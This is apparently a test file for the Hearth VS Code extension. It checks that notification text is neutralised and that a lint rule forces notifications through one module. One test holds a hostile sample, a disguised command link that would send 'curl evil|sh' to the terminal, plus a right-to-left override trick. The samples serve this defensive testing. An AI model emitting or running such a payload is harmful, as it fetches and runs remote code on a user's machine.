import * as assert from 'node:assert/strict';
import * as path from 'node:path';
import { ESLint } from 'eslint';
import { inertText } from '../../protocol/inertText';

/**
 * VS Code opens a [label](command:…) link in a notification on a click, and
 * Hearth's notifications carry words from models, MCP servers and team
 * servers: every one goes through extension/notifications.ts, whose text is
 * made inert, and a lint rule keeps it that way.
 */
const repo = process.cwd();
const eslint = new ESLint({ cwd: repo, overrideConfigFile: path.join(repo, 'eslint.config.mjs') });

async function notificationErrors(file: string, code: string): Promise<string[]> {
  const [result] = await eslint.lintText(code, { filePath: path.join(repo, file) });
  return result.messages.filter((m) => m.ruleId === 'no-restricted-syntax').map((m) => m.message);
}

describe('notification text', function () {
  this.timeout(60_000);

  it('breaks every markdown link, command links included, and keeps the words', () => {
    const hostile = 'Your session expired. [Enter your API key again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) or [read more](https://example.com).';
    const shown = inertText(hostile);
    assert.doesNotMatch(shown, /\]\(/);
    assert.match(shown, /\[Enter your API key again\] \(command:/, 'the words stay readable');
  });

  it('shows hidden characters and keeps line breaks', () => {
    assert.equal(inertText('line one\nadmin\u202e txt'), 'line one\nadmin⟨U+202E⟩ txt');
    assert.equal(inertText('a\nb', false), 'a⟨U+000A⟩b');
  });

  it("refuses a direct call to VS Code's notifications in the extension, in either spelling", async () => {
    const direct = "import * as vscode from 'vscode';\nexport const shown = vscode.window.showErrorMessage('x');\n";
    const named = "import { window } from 'vscode';\nexport const shown = window.showWarningMessage('x');\n";
    assert.equal((await notificationErrors('extension/actions/planted.ts', direct)).length, 1);
    assert.equal((await notificationErrors('extension/planted.ts', named)).length, 1);
    assert.deepEqual(await notificationErrors('extension/notifications.ts', direct), [], 'the one place that may');
    const through = "import { showInformationMessage } from './notifications';\nexport const shown = showInformationMessage('x');\n";
    assert.deepEqual(await notificationErrors('extension/planted.ts', through), []);
  });
});
